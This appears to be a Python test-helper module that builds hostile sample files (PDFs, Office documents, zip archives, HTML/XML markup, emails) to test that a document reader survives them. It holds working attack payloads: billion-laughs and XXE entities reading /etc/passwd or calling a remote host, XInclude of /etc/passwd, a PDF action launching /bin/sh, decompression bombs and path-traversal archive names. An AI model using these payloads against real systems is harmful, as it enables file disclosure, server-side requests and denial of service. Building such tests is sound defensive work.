"""Documents made to do harm, of each kind that the readers know: name -> content.

The sizes are small enough that a reader refuses, or reads, most of them in less than a second.
"""

from __future__ import annotations

import base64
import struct
import zipfile
import zlib
from io import BytesIO

from tests.helpers.office_files import docx, opendocument, pptx, shape, xlsx
from tests.helpers.raw_pdf import ENDLESS_DASHES, text_content
from tests.hostile.damaged_files import zip_members

Files = dict[str, bytes]

_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))
_OUTSIDE = '<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://192.0.2.1/x">'
_PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
_OLE_MARK = bytes.fromhex("d0cf11e0a1b11ae1")

# -- PDF -----------------------------------------------------------------------------------------

_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources 4 0 R/Contents 7 0 R>>"


def write_pdf(
    changed: dict[int, bytes] | None = None, *, content: bytes = b"", trailer: bytes = b"", start: int = -1
) -> bytes:
    """Return a PDF of one page, with these objects in place of its own; `start` is where it says xref is."""
    content = content or text_content("words")
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>",
        3: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        4: b"<</Font<</F1 3 0 R>>>>",
        5: b"null",
        6: _PAGE,
        7: make_stream(content),
    } | (changed or {})
    written, rows = b"%PDF-1.7\n", {0: b"0000000000 65535 f \n"}
    for number, body in objects.items():
        rows[number] = b"%010d 00000 n \n" % len(written)
        written += b"%d 0 obj" % number + body + b"endobj\n"
    size = max(objects) + 1
    table = b"".join(rows.get(number, rows[0]) for number in range(size))
    xref = len(written)
    end = b"trailer<</Size %d/Root 1 0 R%s>>startxref\n%d\n%%%%EOF"
    return written + b"xref\n0 %d\n%s" % (size, table) + end % (size, trailer, xref if start < 0 else start)


def make_stream(content: bytes, entries: bytes = b"") -> bytes:
    """Return an object with a stream."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


_TILE = b"1 0 0 rg 0 0 .5 .5 re f"
# Content that PDFium draws for minutes, with its resources and the object 5 that these refer to.
_SLOW_RESOURCES = {
    "tiling pattern": (
        b"/Pattern cs /P1 scn 0 0 612 792 re f",
        b"/Pattern<</P1 5 0 R>>",
        b"<</Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001"
        b"/Resources<<>>/Length %d>>stream\n%s\nendstream" % (len(_TILE), _TILE),
    ),
    "shading": (
        b"/S1 sh " * 3_000,
        b"/Shading<</S1 5 0 R>>",
        b"<</ShadingType 3/ColorSpace/DeviceRGB/Coords[300 400 0 300 400 500]/Extend[true true]"
        b"/Function<</FunctionType 2/Domain[0 1]/C0[1 0 0]/C1[0 0 1]/N 1>>>>",
    ),
}


def _with_resources(content: bytes, resources: bytes, extra: bytes) -> bytes:
    return write_pdf({4: b"<</Font<</F1 3 0 R>>%s>>" % resources, 5: extra}, content=content)


def poison_pdf() -> Files:
    """Return PDF files whose structure, streams or drawing have no end."""
    lines = b"".join(b"%d 0 m %d 800 l S\n" % (n % 612, n * 7 % 612) for n in range(400_000))
    slow = {"dashes": ENDLESS_DASHES, "lines": lines}  # in one step, and in very many
    files = {f"slow {name}": _with_resources(content, b"", b"") for name, content in slow.items()}
    files |= {f"slow {name}": _with_resources(*parts) for name, parts in _SLOW_RESOURCES.items()}
    files |= {f"tree {name}": write_pdf(changed) for name, changed in _page_trees().items()}
    files |= {f"stream {name}": write_pdf({7: body}) for name, body in _streams().items()}
    files |= {
        f"box {number}": write_pdf({6: _PAGE.replace(b"[0 0 612 792]", box)})
        for number, box in enumerate(
            (
                b"[0 0 1e9 1e9]",
                b"[0 0 0 0]",
                b"[0 0 -5 -5]",
                b"[nan inf 1 1]",
                b"[0 0 1 99999999999999999999]",
                b"[0 0 612 792]/UserUnit 1000000",
                b"[0 0 612 792]/Rotate 99999999",
                b"5 0 R",
                b"[]",
                b"6 0 R",
            )
        )
    }
    files |= _drawings() | _crossed_references()
    return {f"{name}.pdf": content for name, content in files.items()}


def _page_trees() -> dict[str, dict[int, bytes]]:
    deep = {
        100 + n: b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (99 + n, 101 + n)
        for n in range(3000)
    }
    outline = b"<</Title(x)/Parent 8 0 R/First 9 0 R/Next 9 0 R/Prev 9 0 R/Count 99999>>"
    act = b"<</S/JavaScript/JS(app.launchURL('http://192.0.2.1'))/Next<</S/Launch/F(/bin/sh)>>>>"
    return {
        "loop": {2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"},
        "loop of two": {2: b"<</Type/Pages/Kids[5 0 R]/Count 9>>", 5: b"<</Type/Pages/Kids[2 0 R]/Count 9>>"},
        "deep": {2: b"<</Type/Pages/Kids[100 0 R]/Count 1>>", **deep, 3100: _PAGE},
        "count": {2: b"<</Type/Pages/Kids[6 0 R]/Count 2147483647>>"},
        "negative count": {2: b"<</Type/Pages/Kids[6 0 R]/Count -1>>"},
        "many": {2: b"<</Type/Pages/Kids[%s]/Count 20000>>" % (b"6 0 R " * 20_000)},
        "missing": {2: b"<</Type/Pages/Kids[77 0 R 78 0 R]/Count 2>>"},
        "parent loop": {6: _PAGE.replace(b"Parent 2", b"Parent 6").replace(b"/MediaBox[0 0 612 792]", b"")},
        "outline loop": {
            1: b"<</Type/Catalog/Pages 2 0 R/Outlines 8 0 R>>",
            8: b"<</First 9 0 R/Last 9 0 R/Count 99999>>",
            9: outline,
        },
        "names loop": {
            1: b"<</Type/Catalog/Pages 2 0 R/Names<</Dests 8 0 R>>>>",
            8: b"<</Kids[8 0 R 8 0 R]>>",
        },
        "actions": {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction%s/AA<</WC%s>>>>" % (act, act)},
        "arrays": {5: b"[" * 50_000 + b"]" * 50_000, 6: _PAGE.replace(b"[0 0 612 792]", b"5 0 R")},
        "dictionaries": {4: b"<</A" * 50_000},
        "reference to itself": {4: b"4 0 R", 5: b"5 0 R"},
        "struct tree loop": {
            1: b"<</Type/Catalog/Pages 2 0 R/MarkInfo<</Marked true>>/StructTreeRoot 8 0 R>>",
            8: b"<</Type/StructTreeRoot/K 8 0 R/ParentTree 8 0 R>>",
        },
    }


def _streams() -> dict[str, bytes]:
    bomb = zlib.compress(b"BT /F1 10 Tf 72 720 Td (words) Tj ET\n" * 300_000, 9)
    zeros = zlib.compress(zlib.compress(bytes(60_000_000), 9), 9)
    chain = b"/Filter[%s]" % (b"/ASCIIHexDecode" * 60)
    return {
        "bomb": make_stream(bomb, b"/Filter/FlateDecode"),
        "bomb in a bomb": make_stream(zeros, b"/Filter[/FlateDecode/FlateDecode]"),
        "run lengths": make_stream(b"\x81 " * 100_000, b"/Filter/RunLengthDecode"),
        "chain": make_stream(b"20" * 5000, chain),
        "lzw": make_stream(bytes(range(256)) * 400, b"/Filter/LZWDecode"),
        "length": b"<</Length 99999999999>>stream\nBT\nendstream",
        "negative length": b"<</Length -5>>stream\nBT\nendstream",
        "length of itself": b"<</Length 7 0 R>>stream\nBT\nendstream",
        "elsewhere": make_stream(b"", b"/F(/etc/passwd)/FFilter/FlateDecode"),
        "predictor": make_stream(
            zlib.compress(bytes(5000)),
            b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 999999999/Colors 99>>",
        ),
        "crypt": make_stream(b"BT ET", b"/Filter/Crypt/DecodeParms<</Name/Identity>>"),
    }


def _drawings() -> Files:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X1 5 0 R>>>>"
    picture = b"/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/BitsPerComponent 8"
    large = b"/Width 60000/Height 60000"
    glyphs = b"/Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 0/LastChar 255"
    names = b"/Encoding<</Differences[0/a]>>/CharProcs<</a 8 0 R>>/Resources 4 0 R/Widths[1]"
    glyph = {3: b"<<%s%s>>" % (glyphs, names), 8: make_stream(b"BT /F1 9 Tf (\0\0\0) Tj ET")}
    program = b"{" * 3000 + b"}" * 3000
    function = make_stream(program, b"/FunctionType 4/Domain[0 1]/Range[0 1]")
    shading = b"<</ShadingType 1/ColorSpace/DeviceGray/Function 8 0 R>>"
    used = b"/XObject<</X1 5 0 R>>"
    draw = b"612 0 0 792 0 0 cm /X1 Do"
    return {
        "form in itself": _with_resources(b"/X1 Do", used, make_stream(b"/X1 Do /X1 Do", form)),
        "picture": _with_resources(draw, used, make_stream(b"\0" * 99, picture + large)),
        "fax": _with_resources(
            draw, used, make_stream(b"\0\1" * 999, picture + large + b"/Filter/CCITTFaxDecode")
        ),
        "jbig2": _with_resources(
            draw, used, make_stream(bytes(range(256)) * 9, picture + b"/Filter/JBIG2Decode")
        ),
        "jpx": _with_resources(
            draw,
            used,
            make_stream(b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 999, picture + b"/Filter/JPXDecode"),
        ),
        "font in itself": write_pdf(glyph, content=b"BT /F1 9 Tf (\0) Tj ET"),
        "function": write_pdf({4: b"<</Shading<</S1 5 0 R>>>>", 5: shading, 8: function}, content=b"/S1 sh"),
        "states": write_pdf(content=b"q " * 500_000),
        "text": write_pdf(content=b"BT /F1 1e9 Tf 1e38 Tc (w) Tj " + b"(words) Tj " * 50_000 + b"ET"),
        "numbers": write_pdf(content=b"1" * 200_000 + b" 0 0 1 0 0 cm " + b"-" * 10_000 + b" w"),
        "strings": write_pdf(content=b"BT /F1 9 Tf (" + b"(" * 200_000),
        "curves": write_pdf(content=b"0 0 m " + b"1e9 -1e9 3 4 -1e30 1e30 c " * 3000 + b"S"),
        "inline picture": write_pdf(content=b"BI /W 99999 /H 99999 /BPC 8 /CS /RGB ID \0\0 EI"),
    }


def _crossed_references() -> Files:
    whole = write_pdf()
    table = whole.index(b"xref\n0")
    lock = b"/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>" % (b"11" * 32, b"22" * 32)
    packed = b"8 0 5 5 " * 50
    inside = make_stream(packed, b"/Type/ObjStm/N 50/First 400/Extends 8 0 R")
    return {
        "xref loop": write_pdf(trailer=b"/Prev %d" % table),
        "xref beyond": write_pdf(start=10**12),
        "xref in the middle": write_pdf(start=20),
        "xref of streams": write_pdf(trailer=b"/XRefStm %d" % table),
        "root": write_pdf(trailer=b"/Root 9 0 R"),
        "size": whole.replace(b"/Size 8", b"/Size 2147483647"),
        "no end": whole[:table],
        "packed in itself": write_pdf({5: b"<</A 8 0 R>>", 8: inside}),
        "locked": write_pdf(trailer=lock),
        "locked by itself": write_pdf({5: b"<</Filter 5 0 R/V 5 0 R>>"}, trailer=b"/Encrypt 5 0 R/ID[5 0 R]"),
        "locked with aes": write_pdf(
            trailer=lock.replace(b"/V 1/R 2", b"/V 5/R 6/Length 256/OE<00>/UE<00>/Perms<00>")
        ),
        "many ends": whole + b"\nstartxref\n0\n%%EOF" * 20_000,
        "many starts": b"%PDF-1.4\n" * 20_000,
    }


# -- Office --------------------------------------------------------------------------------------


def poison_office() -> Files:
    """Return documents of word processors, sheets and slides that exhaust or reach out."""
    files: dict[str, dict[str, str]] = {}
    for name, head in (("laughs", _LAUGHS), ("outside", _OUTSIDE)):
        used = "&l9;" if name == "laughs" else "&file;&net;"
        slide = f"<draw:page><draw:frame><text:p>{used}</text:p></draw:frame></draw:page>"
        table = f'<worksheet><sheetData><row r="1"><c r="A1"><v>{used}</v></c></row></sheetData></worksheet>'
        for suffix, part, members in (
            ("docx", "word/document.xml", docx(_PARAGRAPH.format(used))),
            ("pptx", "ppt/slides/s0.xml", pptx(shape(used))),
            ("odt", "content.xml", opendocument("text", f"<text:p>{used}</text:p>")),
            ("odp", "content.xml", opendocument("presentation", slide)),
            ("xlsx", "xl/worksheets/sheet0.xml", xlsx(A=[["x"]]) | {"xl/worksheets/sheet0.xml": table}),
        ):
            members[part] = f"<!DOCTYPE x [{head}]>{members[part]}"
            files[f"{name}.{suffix}"] = members
    files |= _deep_documents() | _wide_sheets() | _odd_relations()
    return {name: zip_members(members) for name, members in files.items()} | _ole_files() | poison_archives()


def _deep_documents() -> dict[str, dict[str, str]]:
    def nest(before: str, inner: str, after: str, depth: int) -> str:
        return before * depth + inner + after * depth

    table = nest("<w:tbl><w:tr><w:tc>", _PARAGRAPH.format("x"), "</w:tc></w:tr></w:tbl>", 3000)
    styles = '<w:style w:styleId="a"><w:basedOn w:val="a"/></w:style>'
    styled = docx('<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>')
    styled["word/styles.xml"] = styled["word/styles.xml"].replace("</w:styles>", f"{styles}</w:styles>")
    return {
        "tables.docx": docx(table),
        "boxes.docx": docx(nest("<w:txbxContent><w:p><w:r>", "x", "</w:r></w:p></w:txbxContent>", 5000)),
        "styles.docx": styled,
        "attributes.docx": docx("<w:p " + " ".join(f'a{n}="x"' for n in range(50_000)) + "/>"),
        "groups.pptx": pptx(nest("<p:grpSp>", shape("deep"), "</p:grpSp>", 5000)),
        "sections.odt": opendocument(
            "text", nest("<text:section>", "<text:p>x</text:p>", "</text:section>", 20_000)
        ),
        "spaces.odt": opendocument("text", '<text:p><text:s text:c="2000000000"/>x</text:p>'),
        "long.docx": docx(_PARAGRAPH.format("x" * 3_000_000)),
        "paragraphs.docx": docx("<w:p/>" * 100_000),
    }


def _wide_sheets() -> dict[str, dict[str, str]]:
    sheet = "xl/worksheets/sheet0.xml"
    head = xlsx(A=[["x"]])[sheet].partition("<sheetData>")[0]
    cells = "".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>' for r in (1, 99, 1_048_576))
    merged = (
        "</sheetData><mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 50 + "</mergeCells></worksheet>"
    )
    shared = "<f t='shared' ref='A1:XFD1048576' si='0'>A1</f>"
    repeat = 'table:number-{}-repeated="2000000000"'
    row = f"<table:table-row {repeat.format('rows')}><table:table-cell {repeat.format('columns')}>"
    table = f'<table:table table:name="A">{row}<text:p>x</text:p></table:table-cell></table:table-row>'
    sheets = {
        "corners": f"{head}<sheetData>{cells}</sheetData></worksheet>",
        "merged": f'{head}<sheetData><row r="1"><c r="A1"><v>1</v></c></row>{merged}',
        "shared formula": f"{head}<sheetData><row><c r='A1'>{shared}</c></row></sheetData></worksheet>",
        "dimension": head.replace("<sheetData>", "") + '<dimension ref="A1:ZZZZZZ99999999999"/></worksheet>',
        "odd cells": f"{head}<sheetData><row r='-1'><c r='@@@' t='s'><v>999999999</v></c></row></sheetData>",
        "dates": f"{head}<sheetData><row><c s='4294967295' t='d'><v>1e308</v></c></row></sheetData>",
    }
    files = {f"{name}.xlsx": xlsx(A=[["x"]]) | {sheet: text} for name, text in sheets.items()}
    return files | {"repeated.ods": opendocument("spreadsheet", f"{table}</table:table>")}


def _odd_relations() -> dict[str, dict[str, str]]:
    outside = 'Target="http://192.0.2.1/x" TargetMode="External"'
    word, slides, book = docx(_PARAGRAPH.format("x")), pptx(shape("x")), xlsx(A=[["x"]])
    return {
        "remote.docx": word
        | {"word/_rels/document.xml.rels": _redirect(word, "word/_rels/document.xml.rels", outside)},
        "escaped.docx": word
        | {"_rels/.rels": _redirect(word, "_rels/.rels", 'Target="../../../../etc/passwd"')},
        "loop.docx": word | {"_rels/.rels": _redirect(word, "_rels/.rels", 'Target="_rels/.rels"')},
        "loop.pptx": slides
        | {
            "ppt/_rels/presentation.xml.rels": _redirect(
                slides, "ppt/_rels/presentation.xml.rels", 'Target="presentation.xml"'
            )
        },
        "remote.xlsx": book
        | {"xl/_rels/workbook.xml.rels": _redirect(book, "xl/_rels/workbook.xml.rels", outside)},
        "nothing.docx": {"[Content_Types].xml": ""},
        "nothing.epub": {"mimetype": "application/epub+zip", "META-INF/container.xml": "<container/>"},
        "loop.epub": {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container><rootfiles><rootfile full-path="META-INF/container.xml"/>'
            "</rootfiles></container>",
        },
    }


def _redirect(members: dict[str, str], part: str, target: str) -> str:
    before, _, rest = members[part].partition('Target="')
    return before + target + rest.partition('"')[2]


def _ole_files() -> Files:
    header = _OLE_MARK + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
    header += bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 0, 0, 4096, 0, 1, 0, 0)
    loop = (header + struct.pack("<109I", *[0] * 109)).ljust(512, b"\0")
    sectors = struct.pack("<128I", *[0] * 128) * 3  # each sector follows itself
    return {f"loop.{suffix}": loop + sectors + bytes(4096) for suffix in ("doc", "xls", "ppt", "msg")} | {
        f"mark.{suffix}": _OLE_MARK + b"\xff" * 5000 for suffix in ("doc", "xls", "ppt", "msg")
    }


# -- archives ------------------------------------------------------------------------------------


def poison_archives() -> Files:
    """Return containers that lie about what is in them."""
    whole = zip_members(docx(_PARAGRAPH.format("x") * 2000))
    members = docx(_PARAGRAPH.format("x"))
    files = {
        "bomb.docx": zip_members(members | {"word/document.xml": " " * 200_000_000}),
        "bomb beside.docx": zip_members(members | {"word/fill.xml": " " * 100_000_000}),
        "names.docx": zip_members(members | {"../../outside.txt": "x", "/outside.txt": "x"}),
        "many.docx": zip_members(members | {f"word/{n}.xml": "" for n in range(20_000)}),
        "inside.docx": zip_members({"a.docx": whole} | {f"{n}.docx": whole for n in range(20)}),
        "text.docx": b"words " * 1000,
        "comment.docx": whole[:-2] + b"\xff\xff" + b"PK\5\6" * 16_000,
        "gzip.odt": b"\x1f\x8b\x08" + bytes(5000),
        "archive.txt": whole,
        "archive.zip": whole,
    }
    sizes = {"small": 10, "zero": 0, "most": 0xFFFF_FFFF}
    return (
        files
        | {f"size {name}.docx": _lie_about_size(whole, size) for name, size in sizes.items()}
        | {
            "links.docx": _with_links(members),
            "encrypted.docx": _set_flags(whole, 1),
            "method.docx": whole.replace(b"\x08\0", b"\x0e\0"),
        }
    )


def _lie_about_size(whole: bytes, size: int) -> bytes:
    data = bytearray(whole)
    with zipfile.ZipFile(BytesIO(whole)) as container:
        local = container.getinfo("word/document.xml").header_offset
    central = data.rfind(b"PK\1\2", 0, data.rfind(b"word/document.xml"))
    struct.pack_into("<I", data, local + 22, size)
    struct.pack_into("<I", data, central + 24, size)
    return bytes(data)


def _set_flags(whole: bytes, flags: int) -> bytes:
    data, at = bytearray(whole), -1
    while (at := data.find(b"PK\1\2", at + 1)) >= 0:
        struct.pack_into("<H", data, at + 8, flags)
    return bytes(data)


def _with_links(members: dict[str, str]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as container:
        for name, text in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o120777 << 16
            container.writestr(info, "/etc/passwd" if name == "word/document.xml" else text)
    return out.getvalue()


# -- web pages and mail --------------------------------------------------------------------------


def poison_html() -> Files:
    """Return pages, XML and other markup that is deep, wide, or reaches out."""
    outside = (
        '<meta http-equiv="refresh" content="0;url=http://192.0.2.1"><base href="http://192.0.2.1/">'
        '<img src="http://192.0.2.1/i"><iframe src="file:///etc/passwd"></iframe>'
        '<link rel=stylesheet href="//x">'
        '<script>while(1);</script><object data="http://192.0.2.1"></object><p>words'
    )
    run = 100_000
    texts = {
        "deep.html": "<div>" * run,
        "tables.html": "<table><tr><td>" * 20_000,
        "lists.html": "<ul><li>" * 20_000,
        "spans.html": '<table><tr><td colspan="999999999" rowspan="999999999">x' * 200,
        "outside.html": outside,
        "attributes.html": "<p " + " ".join(f"a{n}=x" for n in range(run)) + ">x",
        "comment.html": "<!--" * run,
        "entities.html": "&#x110000;&#0;&#55296;&nosuch;" * 20_000,
        "tags.html": "<" * run,
        "formatting.html": "<b><i><a><p>" * 5000,
        "spaces.html": f"<pre>a{' ' * run}b</pre>",
        "select.html": "<select><option>" * 20_000,
        "template.html": "<template>" * 5000,
        "svg.html": "<svg><use href='#a' id='a'/><foreignObject>" * 5000,
        "frames.html": "<frameset><p>" * 5000,
        "laughs.xml": f"<!DOCTYPE a [{_LAUGHS}]><a><b>&l9;</b></a>",
        "deep.xml": "<a>" * run,
        "outside.xml": f"<!DOCTYPE a [{_OUTSIDE}]><a>&file;&net; x</a>",
        "parameter.xml": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/d"> %p;]><a>x</a>',
        "include.xml": '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/>x</a>',
        "processing.xml": "<?a?>" * run + "<x/>",
        "spaces.xml": "<a" + " " * run + "/>",
        "attributes.xml": "<a " + " ".join(f'a{n}="x"' for n in range(50_000)) + "/>",
        "deep.json": "[" * run,
        "objects.json": '{"a":' * run,
        "deep.ipynb": '{"cells":' * 20_000,
        "cells.ipynb": '{"cells":[{"cell_type":"markdown","source":[' + "[" * 5000,
        "deep.yaml": "- " * run,
        "deep.rtf": "{\\rtf1 " + "{" * run,
        "binary.rtf": "{\\rtf1 \\bin999999999 x}",
        "fields.rtf": "{\\rtf1 " + "\\u-1?" * run,
        "headings.md": "# " * run,
        "quotes.md": "> " * run,
        "fences.md": "```\n" * run,
        "links.md": "[" * run,
        "section.tex": "\\section{" * 20_000,
        "columns.csv": "," * run,
        "quotes.csv": '"' * run,
        "nul.txt": "\0" * run,
        "marks.txt": "\u202e\u200b\ufeff" * run,
        "accents.txt": "e" + "\u0301" * run,
        "line.log": "x" * 2_000_000,
        "greek.xml": '<?xml version="1.0" encoding="nosuch"?><a>x</a>',
        "utf7.html": '<meta charset="utf-7">+ADw-script+AD4-',
    }
    wide = {
        "wide.xml": f"<!DOCTYPE a [{_LAUGHS}]><a>&l9;</a>".encode("utf-16"),
        "half.txt": b"\xff\xfe" + b"\xd8" * run,
    }
    return {name: text.encode("utf-8", "surrogatepass") for name, text in texts.items()} | wide


def poison_mail() -> Files:
    """Return mails whose parts, headers or words have no end."""
    run = 50_000
    inner = "Subject: innermost\r\n\r\nbody\r\n"
    for _ in range(1000):
        inner = f"Subject: outer\r\nContent-Type: message/rfc822\r\n\r\n{inner}"
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(500))
    same = (
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        + '--b\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n' * 2000
    )
    attached = (
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Disposition: attachment;'
        ' filename="../../../outside.txt"\r\n\r\nx\r\n--b--'
    )
    mails = {
        "nested": inner,
        "parts": f"{parts}Content-Type: text/plain\r\n\r\nbody",
        "same boundary": same,
        "attached": attached,
        "many headers": "X-A: b\r\n" * run + "\r\nbody",
        "no boundary": "Content-Type: multipart/mixed\r\n\r\n--\r\n" * 999,
        "long header": f"Subject: {'x' * 2_000_000}\r\n\r\nbody",
        "folded header": "Subject: a\r\n" + " x\r\n" * run + "\r\nbody",
        "encoded words": f"Subject: {'=?utf-8?q?=61?= ' * run}\r\n\r\nbody",
        "open words": f"Subject: {'=?utf-8?b?' * run}\r\n\r\nbody",
        "comments": f"From: {'(' * run}\r\nTo: {'(' * run}\r\nDate: {'(' * run}\r\n\r\nbody",
        "addresses": f"To: {'a@b,' * run}\r\n\r\nbody",
        "groups": f"To: {'a:' * run}\r\n\r\nbody",
        "quotes": 'From: "' + "\\\\" * run + "\r\nTo: " + '"' * run + "\r\n\r\nbody",
        "parameters": f"Content-Type: text/plain; {'; '.join(f'a*{n}=b' for n in range(20_000))}\r\n\r\nbody",
        "continued": f"Content-Type: text/plain; charset*0*=utf-8'%s'{'%41' * run}\r\n\r\nbody",
        "date": f"Date: {'9' * 5000}\r\n\r\nbody",
        "far date": "Date: Mon, 99 Foo 99999999999999999999 99:99:99 +999999\r\n\r\nbody",
        "charset": 'Content-Type: text/plain; charset="nosuch\\0"\r\n\r\nbody',
        "codec": "Content-Type: text/plain; charset=zlib_codec\r\n\r\nbody",
        "rot13": "Content-Type: text/plain; charset=rot13\r\n\r\nbody",
        "idna": f"Content-Type: text/plain; charset=idna\r\n\r\n{'x' * run}",
        "punycode": f"Content-Type: text/plain; charset=punycode\r\n\r\n{'a-' + '9' * run}",
        "uu": "Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 ../x\r\n" + "M" * run,
        "quoted": f"Content-Transfer-Encoding: quoted-printable\r\n\r\n{'=' * run}",
        "external": 'Content-Type: message/external-body; access-type=URL; URL="http://192.0.2.1"\r\n\r\n',
        "partial": "Content-Type: message/partial; number=1; total=999999999; id=x\r\n\r\nbody",
        "tnef": "Content-Type: application/ms-tnef\r\n\r\n\x78\x9f",
        "html": "Content-Type: text/html\r\n\r\n" + "<div>" * run,
        "report": "Content-Type: message/delivery-status\r\n\r\n" + "a: b\r\n\r\n" * run,
    }
    coded = base64.b64encode(bytes(2_000_000))
    binary = {
        "coded.eml": b"Content-Transfer-Encoding: base64\r\n\r\n" + coded,
        "eight bit.eml": b"Subject: \xff\xfe\r\n\r\n" + bytes(range(256)) * 99,
    }
    return {f"{name}.eml": f"MIME-Version: 1.0\r\n{text}".encode() for name, text in mails.items()} | binary
